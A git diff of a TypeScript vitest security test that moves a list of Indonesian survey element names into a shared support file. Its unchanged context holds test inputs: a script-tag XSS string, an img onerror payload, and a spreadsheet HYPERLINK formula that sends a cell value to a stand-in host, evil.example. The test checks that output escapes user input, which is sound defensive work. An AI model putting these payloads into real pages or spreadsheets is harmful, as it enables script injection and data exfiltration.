@@ -4,6 +4,7 @@ import { ulid } from 'ulid';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { mailKeys } from '#shared/db/keys';
 import { outboxItem } from '#shared/mail/outbox';
+import { ELEMENTS } from '#test/support/surveys';
 import { jsonOf, OFFICE_A, type SecurityCloud, startSecurityCloud } from './support.ts';
 
 /** What leaves the system: pages and mail escape what users typed, logs and keys hold no personal data or tokens. */
@@ -21,17 +22,6 @@ afterAll(async () => {
 const SCRIPT = '<script>alert("abdi")</script>';
 const IMG = '"><img src=x onerror=alert(1)>';
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
-const ELEMENTS = [
-  'persyaratan',
-  'prosedur',
-  'waktu',
-  'biaya',
-  'produk',
-  'kompetensi',
-  'perilaku',
-  'sarana',
-  'pengaduan',
-];
 
 const domainTable = () => sc.cloud.system.tables.find((t) => t.logicalId.startsWith('DataDomain'))!.tableName;
 
